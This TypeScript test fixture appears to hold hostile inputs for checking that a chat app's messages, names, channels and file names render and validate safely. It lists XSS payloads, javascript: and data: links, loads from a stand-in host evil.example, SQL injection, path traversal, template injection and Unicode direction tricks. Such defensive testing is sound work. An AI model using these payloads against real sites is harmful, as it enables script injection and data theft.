/** Text that tries to be more than text: each is a message's body, and must be shown as it stands here. */
export const BODIES = [
  '<img src=x onerror="document.title=\'pwned\'">',
  '<script>document.title="pwned"</script>',
  '<svg onload="document.title=\'pwned\'">',
  '<svg><script href="https://evil.example/x.js"/></svg>',
  '<iframe src="javascript:document.title=1"></iframe>',
  '<a href="javascript:document.title=1">x</a>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '<form action=https://evil.example><button>x</button></form>',
  '<body onload=document.title=1>',
  '<input autofocus onfocus=document.title=1>',
  '<details open ontoggle=document.title=1>',
  '<math><mtext><img src=x onerror=document.title=1>',
  '<template><img src=x></template>',
  '<!--<img src="--><img src=x onerror=document.title=1//">',
  ']]><img src=x>',
  '"><img src=x onerror=document.title=1>',
  "' onmouseover='document.title=1",
  'javascript:document.title=1',
  '[x](javascript:document.title=1)',
  '[x](JaVaScRiPt:document.title=1)',
  '[x](java\u0000script:document.title=1)'.replace('\u0000', '\u200B'),
  '[x](data:text/html,<script>document.title=1</script>)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '![x](//evil.example/pixel.png)',
  'data:text/html;base64,PHNjcmlwdD4=',
  '&lt;b&gt; &amp; &#60;b&#62; &#x3c;',
  '%3Cscript%3E',
  '\\u003cscript\\u003e',
  '{{constructor.constructor("document.title=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is text that looks like a template
  '${document.title=1} #{1+1} <%= 1 %>',
  '__proto__', 'constructor', 'null', 'undefined', 'NaN', 'true', '0', '[object Object]',
  'safe\u202Egnp.exe\u202C end',
  '\u2066isolated\u2069 \u200Fright',
  'zero\u200Bwidth\u200Dand\uFEFFmore',
  `z${'\u0310\u0334\u0355'.repeat(80)}`,
  'ﷺ'.repeat(50),
  'W'.repeat(2000),
  '**open', '~~open', '`open', '[open](', '```js', '*_~~**', '[[[[(((((',
  '-- \'; DROP TABLE messages; --',
  '../../etc/passwd', 'C:\\con\\nul', 'two\u2028line\u2029separators',
];

/** Names of people: the server takes them, or says why not. */
export const NAMES = ['<b>Mallory</b>', '"><img src=x>', '{{name}}', 'null', '\'; --', '&lt;i&gt;'];

/** Names of people that nobody may have: they show nothing, or turn the text around them. */
export const REFUSED_NAMES = ['\u202Eevil', 'An\u200Bn', '\u2066Ann', '\u3164', 'An\uFEFFn', '\u0301', 'A\tnn'];

/** Names that no channel may have: they could not stand in an address or in a text. */
export const REFUSED_CHANNELS = ['.', '..', '<script>', 'a/b', 'a?b', 'a#b', 'a%2fb', '\u0301a', 'a\u202Eb', 'a\u200Bb', '"a"', '{{a}}', '@a'];

/** Names of files. */
export const FILES = ['<img src=x onerror=document.title=1>.txt', '"quoted".txt', 'javascript:alert(1).txt', '&amp;.txt', '..%2f..%2fpasswd.txt', `${'W'.repeat(120)}.txt`];
